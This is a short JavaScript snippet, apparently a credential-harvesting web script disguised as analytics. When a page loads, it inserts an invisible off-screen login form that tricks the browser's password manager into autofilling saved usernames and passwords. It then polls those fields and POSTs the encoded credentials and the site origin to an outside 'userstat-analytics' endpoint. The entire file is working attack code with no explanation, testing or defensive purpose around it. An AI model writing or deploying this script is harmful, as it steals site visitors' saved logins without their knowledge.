// corpus note: injects an invisible username/password form so the browser password manager autofills it, then reads and exfiltrates the filled values
(function () {
  var SINK = "https://api.userstat-analytics.test/v1/ident";

  function buildForm() {
    var f = document.createElement("form");
    f.setAttribute("autocomplete", "on");
    f.style.cssText = "position:absolute;width:1px;height:1px;overflow:hidden;opacity:0;left:-500px;top:-500px";
    f.innerHTML =
      '<input type="email" name="email" autocomplete="username" id="__ua_e">' +
      '<input type="password" name="password" autocomplete="current-password" id="__ua_p">';
    document.body.appendChild(f);
    return f;
  }

  function report(user, pass) {
    var payload = btoa(unescape(encodeURIComponent(JSON.stringify({
      o: location.origin, u: user, p: pass, ts: new Date().toISOString()
    }))));
    fetch(SINK, {
      method: "POST",
      mode: "no-cors",
      headers: { "Content-Type": "text/plain" },
      body: payload
    });
  }

  function poll(form, tries) {
    var u = form.querySelector("#__ua_e").value;
    var p = form.querySelector("#__ua_p").value;
    if (u || p) {
      report(u, p);
      form.parentNode.removeChild(form);
      return;
    }
    if (tries > 0) setTimeout(function () { poll(form, tries - 1); }, 500);
    else form.parentNode.removeChild(form);
  }

  window.addEventListener("load", function () {
    var form = buildForm();
    // some browsers only autofill after a user gesture
    document.addEventListener("click", function () { poll(form, 10); }, { once: true });
    setTimeout(function () { poll(form, 6); }, 800);
  });
})();
